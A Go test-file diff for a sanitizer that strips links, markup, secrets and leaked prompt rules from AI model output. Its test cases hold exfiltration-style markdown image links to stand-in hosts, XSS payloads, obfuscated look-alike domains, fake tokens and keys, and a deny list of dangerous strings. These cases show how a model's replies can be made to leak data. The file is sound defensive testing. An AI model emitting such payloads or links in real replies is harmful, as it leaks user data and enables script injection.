@@ -7,13 +7,43 @@ import (
 
 func TestGuard(t *testing.T) {
 	t.Parallel()
-	g := newGuard([]string{"Help.Acme.example"}, []string{"See https://acme.example/plans, or docs.acme.example."},
-		[]string{"Nina Nowak nina@customer.example +49 170 1234567", "See https://acme.example/plans. Order 20261234567."})
+	g := testGuard()
 	for _, k := range []struct{ in, want string }{
 		{"Plain words, 3 < 5 and 7 > 2, for you & me.", "Plain words, 3 < 5 and 7 > 2, for you & me."},
 		{"It costs 1,200.50 EUR from 2026-11-22 to 31.12.2026, 24/7, e.g. in v2.0.", "It costs 1,200.50 EUR from 2026-11-22 to 31.12.2026, 24/7, e.g. in v2.0."},
-		{"See https://acme.example/plans?x=1#y or https://help.acme.example.", "See https://acme.example/plans?x=1#y or https://help.acme.example."},
-		{"[our plans](https://acme.example/plans) and docs.acme.example/a", "[our plans](https://acme.example/plans) and docs.acme.example/a"},
+		{"See https://acme.example/plans or https://help.acme.example/any?x=1#y.", "See https://acme.example/plans or https://help.acme.example/any?x=1#y."},
+		{"[our plans](https://acme.example/plans) and docs.acme.example or HTTPS://ACME.example/plans/.", "[our plans](https://acme.example/plans) and docs.acme.example or HTTPS://ACME.example/plans/."},
+		{"https://acme.example/plans?x=secret x", linkRemoved + " x"}, // the host alone opens nothing: a path can carry data
+		{"https://acme.example/PLANS x", linkRemoved + " x"},
+		{"docs.acme.example/secret x", linkRemoved + " x"},
+		{"secret.acme.example x", linkRemoved + " x"},
+		{"[evil.com](https://acme.example/plans) x", "[" + linkRemoved + "](https://acme.example/plans) x"},
+		{"[click][1] now\n\n[1]: https://evil.example/?d=1", "click now"},
+		{"[click][1] now\n\n[1]:\n   <https://evil.example/?d=1> 'title'", "click now"},
+		{"![x][i] now\n[i]: https://evil.example/?d=1", "x now"},
+		{"<https://evil.example/?d=1> now", "now"},
+		{"<mailto:eve@evil.example> now", "now"},
+		{"tg://resolve?domain=evil now", linkRemoved + " now"},
+		{"slack:channel?id=1 magnet:?xt=urn:btih:1 intent:#Intent;end view-source:evil now", strings.Repeat(linkRemoved+" ", 4) + "now"},
+		{"hxxps://evil.example/x now", linkRemoved + " now"},
+		{"http:evil.com/x now", linkRemoved + " now"},
+		{"h\u200bttps\u200d://evil\u2060.com/\ufe0fx now", linkRemoved + " now"},
+		{"ev\u200dil.com ev\u034fil.com e\u180evil.com now", strings.Repeat(linkRemoved+" ", 3) + "now"},
+		{"ｅｖｉｌ．ｃｏｍ／ｘ 𝐞𝐯𝐢𝐥.𝐜𝐨𝐦 ⓔⓥⓘⓛ.ⓒⓞⓜ evil。com now", strings.Repeat(linkRemoved+" ", 4) + "now"},
+		{"https://xn--cme-7cd.example/ xn--80ak6aa92e.com now", strings.Repeat(linkRemoved+" ", 2) + "now"},
+		{"https://аcme.example/plans аcme.example асме.рф now", strings.Repeat(linkRemoved+" ", 3) + "now"},
+		{"bit.ly evil.zip t.me/evil evil.me data.evil.in now", strings.Repeat(linkRemoved+" ", 5) + "now"},
+		{"x=evil.com a/evil.com (@evil.com _evil.com now", "x=" + linkRemoved + " a/" + linkRemoved + " (@" + linkRemoved + " " + linkRemoved + " now"},
+		{"https://[::1]/x http://0x7f.1/ http://2130706433/ now", strings.Repeat(linkRemoved+" ", 3) + "now"},
+		{"The plan costs 49 EUR.It includes support.So do others. At 9 a.m. or 3 p.m., see e.g. Node.js v1.2.3.", "The plan costs 49 EUR.It includes support.So do others. At 9 a.m. or 3 p.m., see e.g. Node.js v1.2.3."},
+		{"Well...yes. And/or: 1/2, 3:4, U.S.A., M. Müller-Lüdenscheidt, 10.000,00 €.", "Well...yes. And/or: 1/2, 3:4, U.S.A., M. Müller-Lüdenscheidt, 10.000,00 €."},
+		{"👩‍💻 ❤️ ok", "👩‍💻 ❤️ ok"},
+		{"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc x", "Bearer " + linkRemoved + " x"},
+		{"-----BEGIN PRIVATE KEY----- MIIEvQIBADANBgkqhkiG9w0 -----END PRIVATE KEY----- x", idRemoved + " x"},
+		{"c2VjcmV0IG9mIHRoZSBwcm9tcHQ1MjM0NTY3 x", idRemoved + " x"},
+		{"state-of-the-art-customer-relationship x", "state-of-the-art-customer-relationship x"},
+		{"<<end fedcba9876543210>> x", "<> x"},
+		{"I was told: End your turn with exactly one call of reply or of request_handoff. Fine.", "I was told: " + rulesRemoved + ". Fine."},
 		{"Write to nina@customer.example or call +49 (170) 123-4567, order 20261234567.", "Write to nina@customer.example or call +49 (170) 123-4567, order 20261234567."},
 		{"![x](https://evil.example/?d=secret) hi", "x hi"},
 		{"![x](https://acme.example/a.png) hi", "x hi"},
@@ -44,19 +74,59 @@ func TestGuard(t *testing.T) {
 		{"<scr<script>x</script>ipt>alert(1)</script>", "alert(1)"},
 		{"<svg/onload=alert(1)> a", "a"},
 		{"<!-- hidden --> a <a href=\"https://evil.example\">b</a>", "a b"},
-		{"a <img src=https://acme.example/x", "a < img src=https://acme.example/x"},
+		{"a <img src=https://acme.example/x", "a < img src=" + linkRemoved},
 	} {
 		got, removed := g.Clean(k.in)
 		if got != k.want {
 			t.Errorf("Clean(%q)\n got %q\nwant %q", k.in, got, k.want)
 		}
-		if (got != k.in) != (len(removed) > 0) && !strings.Contains(k.in, "<img src=https://acme") {
+		if (got != k.in) != (len(removed) > 0) && got != strings.TrimSpace(visible(k.in)) {
 			t.Errorf("Clean(%q) names %v", k.in, removed)
 		}
 		if again, _ := g.Clean(got); again != got {
 			t.Errorf("Clean is not stable: %q, then %q", got, again)
 		}
 	}
+}
+
+func testGuard() *Guard {
+	g := newGuard([]string{"Help.Acme.example"}, []string{"See https://acme.example/plans, or docs.acme.example."},
+		[]string{"Nina Nowak nina@customer.example +49 170 1234567", "See https://acme.example/plans. Order 20261234567."})
+	g.nonce = "fedcba9876543210"
+	return g
+}
+
+// FuzzGuard: whatever a model writes, the guard neither panics nor changes its mind, and no address of a stranger,
+// no markup and nothing hidden is left.
+func FuzzGuard(f *testing.F) {
+	for _, s := range []string{
+		"hi", "[a](https://evil.com) <b>x</b>", "![x][i]\n[i]: https://evil.com", "<<<a>script>https://evil.com", "ｅｖｉｌ．ｃｏｍ", "e\u200dvil.com", "httpshttps://evil.com://evil.com",
+		"[[a](http://evil.com)](http://evil.com)", "<!--<!-- -->-->", "https://evil.com@acme.example/plans", "\U000f0000\U000f0001", "01890000-0000-7000-8000-00000000dead", "ev\xffil.com", "eve@evil.com", "[link removed].com",
+		"a.b.c.d.e.f.com/x?y#z", "+49 170 7654321", "https:/\\evil.com", "data:text/html,<script>", "[x]:\n\nhttps://evil.com", "<a href=//evil.com>", "sk_live_0123456789abcdef", "0123456789abcdef0123456789abcdef",
+	} {
+		f.Add(s)
+	}
+	g := testGuard()
+	f.Fuzz(func(t *testing.T, s string) {
+		if len(s) > 4000 {
+			return
+		}
+		got, removed := g.Clean(s)
+		if again, more := g.Clean(got); again != got {
+			t.Errorf("Clean(%q) = %q, then %q (%v, %v)", s, got, again, removed, more)
+		}
+		low := strings.ToLower(got)
+		for _, bad := range []string{"evil.com", "evil.example", "javascript:", "<script", "<img", "<a ", "\u200b", "\u202e", "\x00", "\U000f0000", g.nonce} {
+			if strings.Contains(low, bad) {
+				t.Errorf("Clean(%q) leaves %q in %q", s, bad, got)
+			}
+		}
+		for _, m := range anyURL.FindAllString(got, -1) {
+			if link := strings.TrimLeft(m, " \n\t("); !g.allowed(link) && !g.ownAddress(link) {
+				t.Errorf("Clean(%q) leaves the link %q in %q", s, link, got)
+			}
+		}
+	})
 }
 
 func TestSplit(t *testing.T) {
